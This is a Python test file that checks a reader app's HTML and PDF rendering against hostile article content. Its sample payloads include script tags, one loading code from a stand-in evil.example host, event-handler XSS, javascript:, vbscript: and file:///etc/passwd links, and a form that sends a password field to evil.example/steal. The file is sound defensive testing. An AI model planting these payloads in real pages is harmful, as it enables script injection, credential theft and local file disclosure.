"""Hostile article content: sanitized in the reading view's HTML and in the PDF.

Article bodies come from the web; anything executable, anything that would load a remote
or local resource, and anything built to exhaust the renderer must be defused.
"""

from __future__ import annotations

import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from pypdf import PdfReader

from reader.library.model import Article, RelatedItem
from reader.render.html import markdown_to_html, render_article
from reader.render.pdf import export_pdf

HOSTILE = {
    "script": "Before <script>alert('x')</script> after",
    "script-uppercase": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object-embed": '<object data="x.swf"></object><embed src="x.swf">',
    "form": '<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form>',
    "event-handler": '<img src="x.png" onerror="alert(1)"><p onclick="alert(2)">click</p>',
    "javascript-link": "[click](javascript:alert(1)) <a href=' JaVaScRiPt:alert(2)'>b</a>",
    "data-link": "[d](data:text/html;base64,PHNjcmlwdD4=)",
    "file-link": "[f](file:///etc/passwd) <a href='file:///etc/shadow'>s</a>",
    "vbscript-link": "<a href='vbscript:msgbox(1)'>v</a>",
    "remote-image": "![tracker](https://tracker.example/pixel.gif) ![p](//cdn.example/a.png)",
    "css-url": '<div style="background:url(https://evil.example/bg.png)">x</div>',
    "style-block": "<style>@import url(https://evil.example/a.css); body{}</style>text",
    "link-tag": '<link rel="stylesheet" href="https://evil.example/a.css">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "svg": '<svg onload="alert(1)"><use href="https://evil.example/s.svg#a"/></svg>',
    "base-tag": '<base href="https://evil.example/">[rel](page.html)',
    "srcset": '<img src="a.png" srcset="https://evil.example/a.png 2x">',
}
FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "form", "input", "button", "link", "svg",
    "base", "frame", "frameset", "applet", "audio", "video", "source", "use",
}  # fmt: skip
SAFE_SCHEMES = ("http://", "https://", "mailto:", "reader://", "#")
REMOTE_HOSTS = ("evil.example", "tracker.example", "cdn.example")


class _Inspector(HTMLParser):
    """Collects what a browser would act on: tags, attributes, URLs (not escaped text)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        self.in_style = tag == "style"
        values = {name: (value or "").lower() for name, value in attrs}
        if tag == "meta" and (
            "refresh" in values.get("http-equiv", "") or "url=" in values.get("content", "")
        ):
            self.problems.append("<meta> refresh")
        for name, value in attrs:
            value = (value or "").strip()
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}=")
            if name == "style" and "url(" in value.lower():
                self.problems.append(f"{tag} style url()")
            if name in ("href", "src", "srcset", "action", "data", "background"):
                lowered = value.lower()
                if name != "src" and not lowered.startswith(SAFE_SCHEMES):
                    self.problems.append(f"{tag} {name}={value!r}")
                if name in ("src", "srcset") and not lowered.startswith("file://"):
                    self.problems.append(f"{tag} {name}={value!r} (not a local asset)")
                if any(host in lowered for host in REMOTE_HOSTS) and name != "href":
                    self.problems.append(f"{tag} {name}={value!r} (remote)")

    def handle_data(self, data: str) -> None:
        if self.in_style and ("url(" in data or "@import" in data):
            self.problems.append("style block loading a URL")

    def handle_endtag(self, tag: str) -> None:
        if tag == "style":
            self.in_style = False


def active_content(page: str) -> list[str]:
    inspector = _Inspector()
    inspector.feed(page)
    inspector.close()
    return inspector.problems


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE.keys())
def test_view_html_is_defused(body: str) -> None:
    html = markdown_to_html(body)
    assert active_content(html) == [], html


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE.keys())
def test_whole_page_is_defused(body: str) -> None:
    article = Article(
        title="<script>alert(1)</script>Title",
        body=body,
        author='"><img src=x onerror=alert(1)>',
        related=[RelatedItem("<b onmouseover=alert(1)>r</b>", teaser="<script>t</script>")],
    )
    page = render_article(article)
    assert active_content(page) == [], page
    assert '<h1 class="title">&lt;script&gt;alert(1)&lt;/script&gt;Title</h1>' in page


def test_remote_image_keeps_its_alt_text() -> None:
    html = markdown_to_html("![Il grafico dei prezzi](https://tracker.example/p.png)")
    assert "Il grafico dei prezzi" in html
    assert "<img" not in html


def test_deeply_nested_lists_do_not_crash() -> None:
    body = "\n".join("    " * depth + "- level" for depth in range(300))
    started = time.perf_counter()
    html = markdown_to_html(body)
    assert "level" in html
    assert time.perf_counter() - started < 10


def test_deeply_nested_html_does_not_crash() -> None:
    body = "<div>" * 5000 + "deep" + "</div>" * 5000
    assert "deep" in markdown_to_html(body)


def test_huge_table_renders_in_bounded_time() -> None:
    header = "| " + " | ".join(f"c{index}" for index in range(20)) + " |"
    rule = "|" + "---|" * 20
    rows = ["| " + " | ".join(f"r{row}c{col}" for col in range(20)) + " |" for row in range(2000)]
    started = time.perf_counter()
    html = markdown_to_html("\n".join([header, rule, *rows]))
    assert html.count("<tr>") == 2001
    assert time.perf_counter() - started < 20


def test_pdf_of_hostile_article_has_no_active_content(qapp, tmp_path: Path) -> None:
    body = "\n\n".join([*HOSTILE.values(), "[sito](https://example.org/ok) fine."])
    article = Article(title="Hostile", body=body)
    output = export_pdf([article], tmp_path / "hostile.pdf")
    reader = PdfReader(output)
    text = "".join(page.extract_text() for page in reader.pages)
    assert "alert(" not in text
    assert "fine." in text
    uris = [
        annotation.get_object()["/A"]["/URI"]
        for page in reader.pages
        for annotation in page.get("/Annots", [])
        if "/A" in annotation.get_object() and "/URI" in annotation.get_object()["/A"]
    ]
    assert uris == ["https://example.org/ok"]
    raw = output.read_bytes()
    for marker in (b"/JavaScript", b"/JS ", b"/Launch", b"/SubmitForm", b"/EmbeddedFile"):
        assert marker not in raw


def test_the_inspector_would_catch_active_content() -> None:
    assert active_content('<a href="javascript:x">a</a><img src="https://evil.example/p">') == [
        "a href='javascript:x'",
        "img src='https://evil.example/p' (not a local asset)",
        "img src='https://evil.example/p' (remote)",
    ]
